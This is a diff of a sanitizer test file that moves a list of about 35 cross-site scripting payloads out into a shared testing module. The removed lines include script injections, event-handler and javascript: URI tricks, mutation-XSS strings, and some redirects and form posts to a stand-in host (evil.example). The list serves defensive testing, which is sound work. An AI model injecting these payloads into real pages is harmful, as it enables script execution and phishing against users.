@@ -1,44 +1,7 @@
 import { load } from "cheerio";
 import { describe, expect, it } from "vitest";
 import { plainText, sanitizeHtmlField } from "./html.server.ts";
-
-const attacks = [
-  `<script>alert(1)</script>`,
-  `<scr<script>ipt>alert(1)</script>`,
-  `<img src=x onerror=alert(1)>`,
-  `<img src="https://tracker.example/p.gif">`,
-  `<svg onload=alert(1)><script>alert(1)</script></svg>`,
-  `<svg><style><img src=x onerror=alert(1)></style></svg>`,
-  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`,
-  `<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>`,
-  `<iframe srcdoc="<script>alert(1)</script>"></iframe>`,
-  `<form action="https://evil.example"><input name=card><button formaction=javascript:alert(1)>x</button></form>`,
-  `<a href="javascript:alert(1)">x</a>`,
-  `<a href="jAvAsCrIpT:alert(1)">x</a>`,
-  `<a href="java\nscript:alert(1)">x</a>`,
-  `<a href="&#106;avascript:alert(1)">x</a>`,
-  `<a href="\u0001javascript:alert(1)">x</a>`,
-  `<a href="data:text/html,<script>alert(1)</script>">x</a>`,
-  `<a href="vbscript:msgbox(1)">x</a>`,
-  `<a href="//evil.example">x</a>`,
-  `<a href="/logout">x</a>`,
-  `<a href="https://ok.example" onclick="alert(1)" target="_top" style="position:fixed" id="x" name="y">x</a>`,
-  `<div style="position:fixed;inset:0">x</div>`,
-  `<p class="visually-hidden" id="main">x</p>`,
-  `<style>body{display:none}</style>`,
-  `<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example">`,
-  `<link rel="stylesheet" href="https://evil.example/x.css">`,
-  `<object data="x"></object><embed src="x"><applet code="x"></applet>`,
-  `<details ontoggle=alert(1) open>x</details>`,
-  `<template><script>alert(1)</script></template>`,
-  `<textarea></textarea><script>alert(1)</script>`,
-  `<title></title><img src=x onerror=alert(1)>`,
-  `</div></td></tr></table><h1>Your account is closed</h1>`,
-  `<b/onmouseover=alert(1)>x</b>`,
-  `<!--><img src=x onerror=alert(1)>-->`,
-  `<![CDATA[<img src=x onerror=alert(1)>]]>`,
-  `<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)>`,
-];
+import { attacks } from "./testing/hostile-html.ts";
 
 const inert = new Set(
   "p br hr div span blockquote pre code b strong i em u s small sub sup ul ol li dl dt dd h4 h5 h6 table caption thead tbody tfoot tr th td a".split(
